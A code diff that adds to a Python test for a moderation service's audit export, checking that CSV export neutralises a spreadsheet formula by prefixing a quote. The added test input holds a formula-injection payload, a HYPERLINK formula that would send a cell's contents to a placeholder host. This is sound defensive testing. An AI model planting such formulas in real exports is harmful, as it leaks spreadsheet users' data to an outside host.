@@ -193,6 +193,12 @@ def test_audit_export_csv_and_jsonl(store_url: str, clock: Clock) -> None:
     assert "John" not in buf.getvalue()
     with pytest.raises(ModerationError):
         svc.export_audit("xml", io.StringIO())
+    clock.advance(minutes=5)  # a prompt that a spreadsheet would run as a formula
+    svc.check('=HYPERLINK("http://x.example/?"&A1,"chest x-ray") sexy nurse', BEN)
+    buf = io.StringIO()
+    svc.export_audit("csv", buf, since=clock.t - timedelta(minutes=1))
+    row = next(csv.DictReader(io.StringIO(buf.getvalue())))
+    assert row["prompt_redacted"].startswith("'=HYPERLINK(")
 
 
 def test_verify_detects_an_edit_made_behind_the_application(store_url: str,
